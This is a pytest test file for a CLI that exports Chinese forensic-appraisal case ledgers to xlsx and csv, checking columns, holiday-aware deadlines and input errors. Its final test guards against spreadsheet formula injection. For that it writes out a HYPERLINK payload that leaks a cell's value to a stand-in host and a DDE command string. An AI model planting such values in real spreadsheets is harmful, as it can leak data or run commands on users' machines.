"""`gongu ledger export` (工作台账, Sichuan opinion 五(三)): rows from the archive's packages and from
case files in progress, xlsx read back with openpyxl, csv with the csv module. Expected cells are
worked out by hand from the three forensic examples (comments show the counting)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from generator.forensic.model import ForensicAppraisalCase
from gongu.cli.app import app
from gongu.pipeline.ledger import COLUMNS, LedgerCase, LedgerRow, Source, build_ledger

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
JOINT = EXAMPLES / "forensic-joint-grade10" / "case.json"
SINGLE = EXAMPLES / "forensic-single-no-disability" / "case.json"
EXTENDED = EXAMPLES / "forensic-extension-correction" / "case.json"
HEADERS = [c.header for c in COLUMNS]

runner = CliRunner()


def _col(name: str) -> int:
    return HEADERS.index(name)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "home"
    path.mkdir()
    monkeypatch.setenv("GONGU_HOME", str(path))
    return path


def _export(*args: str) -> object:
    return runner.invoke(app, ["ledger", "export", *args])


def _said(result: object) -> str:
    """What the command printed, without the line breaks rich adds at the terminal width."""
    return result.output.replace("\n", "")  # type: ignore[attr-defined]


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel opens the Chinese correctly"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _case(path: Path, **changes: object) -> dict:
    data = json.loads(path.read_text(encoding="utf-8"))
    for dotted, value in changes.items():
        target = data
        *parents, last = dotted.split("__")
        for key in parents:
            target = target[key]
        target[last] = value
    return data


def _model(data: dict) -> ForensicAppraisalCase:
    return ForensicAppraisalCase.model_validate(data)


# ──────────────────────────────────────── csv, by hand ───────────────────────────────────────


def test_csv_rows_from_the_examples_worked_out_by_hand(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "ledger.csv"
    result = _export("--from", "2026-01-01", "--to", "2026-12-31", "--cases", str(EXAMPLES), "-o", str(out))
    assert result.exit_code == 0, result.output
    # the three survey examples are counted and skipped, never listed
    assert "跳过非司法鉴定案件 3 件" in _said(result)
    header, *rows = _read_csv(out)
    assert header == HEADERS
    # ordered by the received date: 03-02 (b), 05-08 (a), 06-18 (the re-appraisal), 08-17 (c)
    assert [r[0] for r in rows] == ["MK-2026-0087", "SJ-2026-0318", "CX-2026-0617", "JC-2026-0512"]
    single, joint, again, extended = rows

    # (b) single commission, insurer phoned and absent (Sichuan 二(二)), 未构成伤残等级 (三(三))
    assert single[_col("委托方式")] == "单方委托"
    assert single[_col("机构选择方式")] == "协商选定"
    assert single[_col("随机抽取记录编号")] == ""
    assert single[_col("通知保险机构到场（方式、时间、接收人）")] == "电话 2026-03-05 10:20 人伤理赔岗 何俊（0816-222 8899）"
    assert single[_col("保险机构到场")] == "未到场，按规定实施鉴定"
    assert single[_col("鉴定结果")] == "伤残等级：未构成伤残等级；误工期：120日；护理期：45日；营养期：45日"
    assert single[_col("复核人")] == "钟文华"
    assert single[_col("复核结论")] == "同意"
    # received Mon 03-02, accepted Wed 03-04: 2 working days ≤ 7 (通则 Art 13)
    assert single[_col("7个工作日内决定受理")] == "是"
    # 30 working days from Wed 03-04 (not counted): Mar 5–6 (2), 9–13 (7), 16–20 (12), 23–27 (17),
    # Mar 30–Apr 3 (22), Apr 4–6 Qingming off, Apr 7–10 (26), Apr 13–16 (30) → 2026-04-16
    assert single[_col("鉴定时限截止日")] == "2026-04-16"
    assert single[_col("鉴定完成日期")] == "2026-03-20"
    assert single[_col("按期完成")] == "是"
    assert single[_col("来源")] == "在办"

    # (a) joint commission: agreed 20 working days from Mon 05-11: May 12–15 (4), 18–22 (9), 25–29 (14),
    # Jun 1–5 (19), Jun 8 (20) → 2026-06-08
    assert joint[_col("委托方式")] == "共同委托"
    assert joint[_col("委托人")] == "何建平、中国人民财产保险股份有限公司成都市分公司"
    assert joint[_col("保险机构到场")] == "到场（陈敏）"
    assert joint[_col("鉴定结果")].startswith("伤残等级：十级伤残（5.10.6.11）；误工期：180日")
    assert joint[_col("鉴定时限截止日")] == "2026-06-08"
    assert joint[_col("回避声明")] == "2/2 人已声明"
    assert joint[_col("利害关系")] == "无"

    # the re-appraisal of (a) (examples/forensic-reappraisal): drawn by gongu draw, agreed 20 working days
    # from Mon 06-22 (Dragon Boat Jun 19–21 before it): Jun 23–26 (4), Jun 29–Jul 3 (9), Jul 6–10 (14),
    # Jul 13–17 (19), Jul 20 (20) → 2026-07-20; received Thu 06-18, accepted Mon 06-22: 1 working day ≤ 7
    assert again[_col("机构选择方式")] == "随机选定"
    assert again[_col("随机抽取记录编号")] == "CX-2026-0617-抽取"
    # with the structured record the ledger names the original opinion, its institution and the ground
    assert again[_col("重新鉴定")] == "是（原：蜀正司鉴〔2026〕临鉴字第0318号，四川蜀正司法鉴定中心；理由：涉保双方协商一致申请重新鉴定）"
    assert again[_col("鉴定时限截止日")] == "2026-07-20"
    assert again[_col("7个工作日内决定受理")] == "是"
    assert again[_col("鉴定结果")] == "伤残等级：十级伤残（5.10.6.11）"
    assert again[_col("按期完成")] == "是"

    # (c) random draw, a suspension Sep 1–11 and a 20-working-day extension across National Day.
    # 30 working days from Wed 08-19: Aug 20–21 (2), 24–28 (7), 31 (8), Sep 1–11 excluded, Sep 14–18 (13),
    # Sun Sep 20 make-up (14), Sep 21–24 (18), Fri Sep 25 Mid-Autumn off, Sep 28–30 (21), Oct 1–7 off,
    # Oct 8–9 (23), Sat Oct 10 make-up (24), Oct 12–16 (29), Oct 19 (30); +20: Oct 20–23 (4),
    # 26–30 (9), Nov 2–6 (14), 9–13 (19), Nov 16 (20) → 2026-11-16; completed 11-06 > 10-19, so only
    # the extension keeps it in time.
    assert extended[_col("机构选择方式")] == "随机选定"
    assert extended[_col("随机抽取记录编号")] == "川保协随机〔2026〕第0912号"
    assert extended[_col("鉴定时限截止日")] == "2026-11-16"
    assert extended[_col("按期完成")] == "是（经延长）"
    assert extended[_col("延长鉴定时限")] == "20个工作日（吴志刚 2026-10-12 批准，2026-10-12 15:00告知委托人）"
    assert extended[_col("补充材料期间（不计入时限）")] == "2026-09-01至2026-09-11"
    assert extended[_col("补正书")] == "锦诚司鉴补〔2026〕第003号"
    assert extended[_col("鉴定结果")].startswith("伤残等级：九级伤残（5.9.6.1）")
    assert extended[_col("重新鉴定")] == "否"
    assert extended[_col("争议处理")] == "无"


def test_date_range_is_inclusive_on_the_received_date(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "l.csv"
    # (b) received 2026-03-02, (a) 2026-05-08: both ends included, the re-appraisal 06-18 and (c) 08-17 outside
    result = _export("--from", "2026-03-02", "--to", "2026-05-08", "--cases", str(EXAMPLES), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert [r[0] for r in _read_csv(out)[1:]] == ["MK-2026-0087", "SJ-2026-0318"]
    result = _export("--from", "2026-03-03", "--to", "2026-05-07", "--cases", str(EXAMPLES), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert _read_csv(out)[1:] == []


def test_received_date_is_the_beijing_date() -> None:
    # 2026-03-01T18:30Z is 2026-03-02 02:30 in Beijing: inside a ledger that starts on 03-02
    data = _case(SINGLE, timeline__received_at="2026-03-01T18:30:00Z")
    ledger = build_ledger([LedgerCase(_model(data), Source.in_progress, "x")], date(2026, 3, 2), date(2026, 3, 2))
    assert [r.case_id for r in ledger.rows] == ["MK-2026-0087"]
    assert ledger.rows[0].received_on == date(2026, 3, 2)


def test_notice_time_is_shown_in_beijing_time() -> None:
    # the insurer phoned at 02:20 UTC (written with Z) is 10:20 in Beijing (UTC + 8 h, no summer time)
    data = _case(SINGLE)
    data["single"]["witness_notices"][0]["at"] = "2026-03-05T02:20:00Z"
    row, _ = _row(data)
    assert row.insurer_notice.startswith("电话 2026-03-05 10:20 ")


# ─────────────────────────────────────────── xlsx ────────────────────────────────────────────


def test_xlsx_headers_frozen_filtered_dates_real(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "ledger.xlsx"
    result = _export("--from", "2026-01-01", "--to", "2026-12-31", "--cases", str(EXAMPLES), "-o", str(out))
    assert result.exit_code == 0, result.output
    ws = load_workbook(out).active
    assert [c.value for c in ws[1]] == HEADERS
    assert ws.freeze_panes == "A2"
    # 28 columns (A…Z, AA, AB), header + 4 rows
    assert len(HEADERS) == 28
    assert ws.auto_filter.ref == "A1:AB5"
    assert ws.max_row == 5
    received = ws.cell(row=2, column=_col("收到委托日期") + 1)
    assert received.value == datetime(2026, 3, 2)  # a real date cell (openpyxl reads it back as datetime)
    assert received.number_format == "yyyy-mm-dd"
    deadline = ws.cell(row=5, column=_col("鉴定时限截止日") + 1)
    assert deadline.value == datetime(2026, 11, 16)
    assert ws.cell(row=3, column=_col("鉴定结果") + 1).value.startswith("伤残等级：十级伤残")
    assert ws.column_dimensions["A"].width == 16
    assert ws.column_dimensions["P"].width == 44  # 鉴定结果, the widest text column


def test_format_from_the_output_suffix_and_default_name(home: Path, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = _export("--from", "2026-03-01", "--to", "2026-03-31", "--cases", str(EXAMPLES))
    assert result.exit_code == 0, result.output
    made = tmp_path / "ledger-2026-03-01-2026-03-31.xlsx"
    assert load_workbook(made).active.cell(row=2, column=1).value == "MK-2026-0087"
    result = _export("--from", "2026-03-01", "--to", "2026-03-31", "--cases", str(EXAMPLES), "-o", "x.csv")
    assert result.exit_code == 0, result.output
    assert _read_csv(tmp_path / "x.csv")[1][0] == "MK-2026-0087"


# ─────────────────────────────────── from the archive ────────────────────────────────────────


def _write_package(root: Path, data: dict) -> Path:
    """A format-1 package on disk holding `data` as its case file (what ingest leaves behind)."""
    bag = root / "2026" / data["case_id"] / "pkg"
    (bag / "data" / "case").mkdir(parents=True)
    (bag / "bagit.txt").write_text("BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n", encoding="utf-8")
    raw = json.dumps(data, ensure_ascii=False).encode("utf-8")
    (bag / "data" / "case" / "case.json").write_bytes(raw)
    meta = {
        "schema": "gongu-archive-package/1", "case_id": data["case_id"], "kind": data["kind"],
        "report": {"number": data["report"]["number"]}, "parties": {}, "dates": {"closure": "2026-12-01T10:00:00+08:00"},
        "retention": {"class": "forensic", "until": "2056-12-31"}, "ingest": {}, "totals": {"files": 1, "bytes": len(raw)},
        "files": [{"path": "data/case/case.json", "role": "case_file", "size": len(raw),
                   "sha256": hashlib.sha256(raw).hexdigest(), "media_type": "application/json"}],
    }
    (bag / "metadata.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
    return bag


def test_archived_case_wins_over_the_same_case_in_progress(home: Path, tmp_path: Path) -> None:
    archived = _case(EXTENDED, report__number="锦诚司鉴〔2026〕临鉴字第0512号（归档）")
    _write_package(home / "archive" / "packages", archived)
    # a survey package in the archive is skipped like a survey case file
    survey = json.loads((EXAMPLES / "slope-collapse" / "case.json").read_text(encoding="utf-8"))
    _write_package(home / "archive" / "packages", survey)
    out = tmp_path / "l.csv"
    result = _export("--from", "2026-08-01", "--to", "2026-08-31", "--cases", str(EXAMPLES), "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = _read_csv(out)[1:]
    assert len(rows) == 1
    assert rows[0][_col("鉴定文书编号")] == "锦诚司鉴〔2026〕临鉴字第0512号（归档）"
    assert rows[0][_col("来源")] == "档案"
    assert "档案 1，在办 0" in _said(result)


def test_a_damaged_package_stops_the_export(home: Path, tmp_path: Path) -> None:
    bag = _write_package(home / "archive" / "packages", _case(JOINT))
    (bag / "metadata.json").write_text("{not json", encoding="utf-8")
    out = tmp_path / "l.xlsx"
    result = _export("--from", "2026-01-01", "--to", "2026-12-31", "-o", str(out))
    assert result.exit_code == 2
    assert "档案包无法读取" in _said(result)
    assert not out.exists()


# ──────────────────────────────────────── the rows ───────────────────────────────────────────


def _row(data: dict) -> tuple[LedgerRow, list[str]]:
    ledger = build_ledger([LedgerCase(_model(data), Source.in_progress, "x")], date(2026, 1, 1), date(2026, 12, 31))
    return ledger.rows[0], ledger.warnings


def test_late_completion_without_the_extension_is_not_in_time() -> None:
    # 通则 Art 28: without the extension (c)'s deadline is 2026-10-19 (see above); completed 11-06
    row, _ = _row(_case(EXTENDED, timeline__extensions=[]))
    assert row.deadline == date(2026, 10, 19)
    assert row.completion_in_time == "否"
    assert row.extensions == "无"


def test_acceptance_after_seven_working_days_is_flagged() -> None:
    # received Mon 03-02; 7 working days: Mar 3–6 (4), 9–11 (7) → limit 03-11; accepted 03-12 is late
    row, _ = _row(_case(SINGLE, timeline__accepted_at="2026-03-12T09:00:00", timeline__effective_on="2026-03-12"))
    assert row.acceptance_in_time == "否"
    row, _ = _row(_case(SINGLE, timeline__accepted_at="2026-03-11T17:00:00"))
    assert row.acceptance_in_time == "是"


def test_pending_terminated_interest_dispute_reappraisal() -> None:
    data = _case(JOINT, timeline__completed_on=None)
    data["recusals"][1]["has_interest"] = True
    data["commission"]["is_reappraisal"] = True
    data["commission"]["original_opinion"] = "川某司鉴〔2026〕临鉴字第0077号（四川某司法鉴定所）"
    data["disputes"] = [{"raised_on": "2026-06-03", "raised_by": "中国人民财产保险股份有限公司成都市分公司",
                         "request": "reappraisal", "status": "open"}]
    row, _ = _row(data)
    assert row.completion_in_time == "在办"
    assert row.interest == "有：邓晓梅"
    assert row.reappraisal == "是（原：川某司鉴〔2026〕临鉴字第0077号（四川某司法鉴定所））"
    assert row.disputes == "2026-06-03 中国人民财产保险股份有限公司成都市分公司申请重新鉴定（处理中）"
    data["termination"] = {"number": "蜀正终告〔2026〕第001号", "ground": "client_withdrew",
                           "explanation": "委托人撤销委托", "decided_on": "2026-05-20"}
    row, _ = _row(data)
    assert row.completion_in_time == "已终止（2026-05-20）"


def test_dispute_path_and_reappraisal_record_in_the_ledger() -> None:
    """Issue 14 §3: the 争议处理 column lists every step with its date and outcome; 重新鉴定 names the
    original opinion and the ground (通则 Art 31). Expected strings written from the edits in case_edits."""
    from case_edits import INSURER, with_dispute_path

    data = _case(JOINT)
    with_dispute_path(data)
    row, _ = _row(data)
    assert row.disputes == (
        f"2026-06-05 {INSURER}申请调解（已处理）："
        "2026-06-12 调解：未达成一致 → 2026-06-19 鉴定人解释说明：保险机构提供复查影像并申请补充鉴定 → "
        "2026-07-03 补充鉴定：维持十级伤残 → 2026-07-20 专家意见：原鉴定意见及补充意见依据充分，予以维持")
    data["disputes"][0]["status"] = "open"
    data["disputes"][0]["steps"][3].pop("outcome")  # the panel has not spoken yet
    row, _ = _row(data)
    assert row.disputes.startswith(f"2026-06-05 {INSURER}申请调解（处理中）：")
    assert row.disputes.endswith("2026-07-20 专家意见：处理中")
    data["commission"].update(is_reappraisal=True, reappraisal={
        "ground": "recusal_not_made", "ground_text": "原鉴定人系被鉴定人近亲属，应当回避没有回避",
        "original_opinion_number": "川某司鉴〔2026〕临鉴字第0077号", "original_institution": "四川某司法鉴定所",
        "original_licence_no": "510100077"})
    row, _ = _row(data)
    assert row.reappraisal == "是（原：川某司鉴〔2026〕临鉴字第0077号，四川某司法鉴定所；理由：原司法鉴定人应当回避没有回避）"


def test_no_deadline_before_the_commission_takes_effect() -> None:
    # 通则 Art 28 counts from the day the 委托书 takes effect: none recorded, no deadline yet
    row, warnings = _row(_case(SINGLE, timeline__effective_on=None, timeline__completed_on=None))
    assert row.deadline is None
    assert row.completion_in_time == "委托书未生效"
    assert row.acceptance_in_time == "是"
    assert warnings == []


def test_single_commission_never_notified_and_no_review() -> None:
    data = _case(SINGLE, review_opinion=None)
    data["single"]["witness_notices"] = []
    row, _ = _row(data)
    assert row.insurer_notice == "未通知"
    assert (row.reviewer, row.review_result) == ("", "未复核")


def test_deadline_in_a_year_without_a_calendar_file_is_an_estimate_said_so() -> None:
    # accepted 12-22: 30 working days run into 2027, which has no official calendar file
    data = _case(SINGLE, timeline__received_at="2026-12-21T10:00:00", timeline__accepted_at="2026-12-22T10:00:00",
                 timeline__effective_on="2026-12-22", timeline__completed_on=None)
    row, warnings = _row(data)
    assert row.acceptance_in_time == "是"  # 12-22 is inside 2026, counted on its official file
    # Tue 22 Dec + 30: 23–25 = 3, 28–31 = 7, Fri 1 Jan 2027 off (estimate), 4–8 = 12, 11–15 = 17,
    # 18–22 = 22, 25–29 = 27, 1–3 Feb = 30 → Wed 3 Feb 2027.
    assert row.deadline == date(2027, 2, 3)
    assert row.calendar == "估算（2027 年无官方安排）"
    assert row.completion_in_time == "在办"
    assert len(warnings) == 1 and "2027" in warnings[0] and "MK-2026-0087" in warnings[0]


# ──────────────────────────────────────── bad input ──────────────────────────────────────────


@pytest.mark.parametrize(("args", "message"), [
    (["--from", "2026-13-01", "--to", "2026-12-31"], "--from 不是有效的日期"),
    (["--from", "2026-01-01", "--to", "31/12/2026"], "--to 不是有效的日期"),
    (["--from", "2026-06-01", "--to", "2026-05-31"], "晚于"),
    (["--from", "2026-01-01", "--to", "2026-12-31", "--format", "ods"], "--format 只能是"),
])
def test_bad_options_exit_2_and_write_nothing(home: Path, tmp_path: Path, args: list[str], message: str) -> None:
    out = tmp_path / "out" / "l.xlsx"
    result = _export(*args, "-o", str(out))
    assert result.exit_code == 2
    assert message in _said(result)
    assert "Traceback" not in _said(result)
    assert not (tmp_path / "out").exists()


def test_an_invalid_case_file_stops_the_export(home: Path, tmp_path: Path) -> None:
    cases = tmp_path / "cases"
    shutil.copytree(EXAMPLES / "forensic-joint-grade10", cases / "a")
    bad = _case(SINGLE)
    bad["results"][0]["outcome"] = "grade"  # a grade outcome without a grade: the loader refuses it
    (cases / "b").mkdir()
    (cases / "b" / "case.json").write_text(json.dumps(bad, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out" / "l.csv"
    result = _export("--from", "2026-01-01", "--to", "2026-12-31", "--cases", str(cases), "-o", str(out))
    assert result.exit_code == 2
    assert "$.results[0].grade" in _said(result)
    assert "案件文件无效" in _said(result)
    assert not (tmp_path / "out").exists()


def test_cases_folder_must_exist(home: Path, tmp_path: Path) -> None:
    result = _export("--from", "2026-01-01", "--to", "2026-12-31", "--cases", str(tmp_path / "nope"))
    assert result.exit_code == 2
    assert "--cases 不是文件夹" in _said(result)


# ─────────────────────────────────────── spreadsheets are data ───────────────────────────────


def test_case_text_that_looks_like_a_formula_stays_text_in_xlsx_and_csv() -> None:
    """A case name typed as a formula is exported as the text it is: a string cell in xlsx (openpyxl
    would store it as a formula), an apostrophe before it in csv (Excel then shows the text)."""
    from openpyxl import load_workbook

    from gongu.pipeline.ledger_export import to_csv, to_xlsx

    evil = '=HYPERLINK("http://example.invalid/?"&A2,"详情")'
    data = _case(SINGLE, case_name=evil, institution__name="+cmd|' /C calc'!A0")
    row, _ = _row(data)
    book = load_workbook(io.BytesIO(to_xlsx([row], period="2026")))
    sheet = book.active
    by_header = {c.value: cell for c, cell in zip(sheet[1], sheet[2], strict=True)}
    assert by_header["案件名称"].data_type == "s" and by_header["案件名称"].value == evil
    assert by_header["鉴定机构"].data_type == "s"
    assert by_header["收到委托日期"].is_date  # dates stay real dates
    lines = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"), newline="")))
    cells = dict(zip(lines[0], lines[1], strict=True))
    assert cells["案件名称"] == "'" + evil and cells["鉴定机构"] == "'+cmd|' /C calc'!A0"
    assert cells["案件编号"] == "MK-2026-0087"  # ordinary text is untouched
